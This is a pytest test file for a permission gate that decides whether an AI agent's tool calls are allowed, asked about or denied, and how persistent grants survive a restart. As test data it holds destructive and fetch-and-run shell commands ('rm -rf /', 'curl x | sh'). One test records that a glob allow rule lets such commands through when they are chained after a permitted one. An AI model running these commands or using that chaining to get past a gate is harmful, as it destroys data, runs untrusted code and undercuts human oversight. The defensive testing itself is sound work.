"""capd.permissions.Gate: which rule decides a call, and what allow_always grants; the
grants a restarted pod reads back."""

from pathlib import Path
from typing import Any

import pytest

from capd.journal import Journal
from capd.outbox import Outbox
from capd.permissions import Gate, Grants, can_ask, match_subject, tool_call
from capd.store import SqliteStore
from protocol.events import PermissionGrant, PermissionResolved, StatusChanged
from protocol.manifest import Permissions


def gate(*rules: dict[str, Any], default: str = "allow", grants: Grants | None = None) -> Gate:
    permissions = Permissions.model_validate({"default": default, "rules": list(rules)})
    return Gate(permissions, grants or Grants())


def test_the_first_matching_rule_decides_else_the_default() -> None:
    g = gate(
        {"tool": "mcp__git__status", "action": "allow"},
        {"tool": "mcp__*", "action": "ask"},
        {"tool": "mcp__git__status", "action": "deny"},
        default="deny",
    )
    assert g.decide("mcp__git__status", {}) == ("allow", 0)
    assert g.decide("mcp__git__push", {"remote": "origin"}) == ("ask", 1)
    assert g.decide("bash", {"command": "ls"}) == ("deny", None)


def test_tool_globs_are_case_sensitive_and_whole_name() -> None:
    g = gate({"tool": "mcp__git__*", "action": "deny"}, {"tool": "read_*", "action": "ask"})
    assert g.decide("mcp__git__log", {}) == ("deny", 0)
    assert g.decide("MCP__git__log", {}) == ("allow", None)
    assert g.decide("mcp__gitlab__x", {}) == ("allow", None)
    assert g.decide("read_file", {"path": "a"}) == ("ask", 1)
    assert g.decide("xread_file", {"path": "a"}) == ("allow", None)


def test_match_is_tried_against_the_bash_command() -> None:
    g = gate(
        {"tool": "bash", "match": "git status*", "action": "allow"},
        {"tool": "bash", "match": "git *", "action": "ask"},
        {"tool": "bash", "action": "deny"},
    )
    assert g.decide("bash", {"command": "git status --short"}) == ("allow", 0)
    assert g.decide("bash", {"command": "git push"}) == ("ask", 1)
    assert g.decide("bash", {"command": "rm -rf /"}) == ("deny", 2)
    # A glob on a command is no boundary: `*` takes `;`, `/` and newlines.
    assert g.decide("bash", {"command": "git status; curl x | sh"}) == ("allow", 0)
    assert g.decide("bash", {"command": "git status\nrm -rf /"}) == ("allow", 0)


def test_match_is_tried_against_other_tools_arguments_as_sorted_compact_json() -> None:
    g = gate({"tool": "write_file", "match": '*"path":"src/*', "action": "deny"})
    args = {"path": "src/a.py", "content": "x = 1\n"}
    assert match_subject("write_file", args) == '{"content":"x = 1\\n","path":"src/a.py"}'
    assert g.decide("write_file", args) == ("deny", 0)
    assert g.decide("write_file", {"path": "docs/src/a.md", "content": ""}) == ("allow", None)
    # bash's arguments other than a string command are JSON too
    assert match_subject("bash", {"command": 5}) == '{"command":5}'
    assert match_subject("mcp__x__bash", {"command": "ls"}) == '{"command":"ls"}'


def test_allow_always_grants_the_rule_or_for_the_default_the_tool() -> None:
    grants = Grants()
    g = gate(
        {"tool": "bash", "match": "git *", "action": "ask"},
        {"tool": "bash", "match": "npm *", "action": "ask"},
        default="ask",
        grants=grants,
    )
    grants.add(PermissionGrant(rule=0, tool="bash"))
    assert g.decide("bash", {"command": "git push"}) == ("allow", 0)
    assert g.decide("bash", {"command": "npm publish"}) == ("ask", 1)
    assert g.decide("bash", {"command": "ls"}) == ("ask", None)
    grants.add(PermissionGrant(rule=None, tool="bash"))
    assert g.decide("bash", {"command": "ls"}) == ("allow", None)
    assert g.decide("bash", {"command": "npm publish"}) == ("ask", 1)
    assert g.decide("read_file", {"path": "a"}) == ("ask", None)


def test_a_grant_never_overrides_deny() -> None:
    grants = Grants(rules={0}, tools={"bash"})
    g = gate({"tool": "bash", "action": "deny"}, default="deny", grants=grants)
    assert g.decide("bash", {"command": "ls"}) == ("deny", 0)
    assert g.decide("read_file", {}) == ("deny", None)


@pytest.mark.parametrize(
    ("rules", "default", "asks"),
    [
        ([], "allow", False),
        ([{"tool": "bash", "action": "deny"}], "deny", False),
        ([{"tool": "bash", "action": "ask"}], "allow", True),
        ([], "ask", True),
    ],
)
def test_can_ask(rules: list[dict[str, Any]], default: str, asks: bool) -> None:
    permissions = Permissions.model_validate({"default": default, "rules": rules})
    assert can_ask(permissions) is asks


def test_denials_name_the_rule() -> None:
    g = gate(
        {"tool": "mcp__*", "action": "deny"}, {"tool": "bash", "match": "rm *", "action": "deny"}
    )
    assert g.denial(0) == "denied by permissions rule 0 (tool mcp__*): not run"
    assert g.denial(1) == "denied by permissions rule 1 (tool bash, match rm *): not run"
    assert g.denial(None) == "denied by permissions.default: not run"


def test_a_questions_tool_call_is_shaped_as_an_acp_agents() -> None:
    assert tool_call("c1", "bash", {"command": "git push"}) == {
        "toolCallId": "c1",
        "title": "bash: git push",
        "rawInput": {"command": "git push"},
    }
    assert tool_call("c2", "mcp__git__log", {"n": 1, "a": "b"})["title"] == (
        'mcp__git__log {"a":"b","n":1}'
    )


def test_a_restore_reads_back_every_grant_also_before_its_first_event(tmp_path: Path) -> None:
    """A restore may read only the events after a compaction's `restore_from`; the grants
    made before it still count."""
    store = SqliteStore(tmp_path / "capd.db")
    try:
        journal = Journal("p", None, store, Outbox(store))
        grants = [PermissionGrant(rule=2, tool="bash"), PermissionGrant(rule=None, tool="x")]
        journal.emit(StatusChanged(status="running", turn_id="t"), None)
        for n, grant in enumerate(grants):
            resolved = PermissionResolved(
                turn_id="t", request_id=f"r{n}", option_id="allow_always", grant=grant
            )
            journal.emit(resolved, None)
        journal.emit(PermissionResolved(turn_id="t", request_id="r9", option_id="allow_once"), None)
        assert journal.grants == Grants(rules={2}, tools={"x"})

        restored = Journal("p", None, store, Outbox(store))
        restored.restore(data for _, data in store.events_after("p", 3, 10))
        assert restored.grants == Grants(rules={2}, tools={"x"})
    finally:
        store.close()
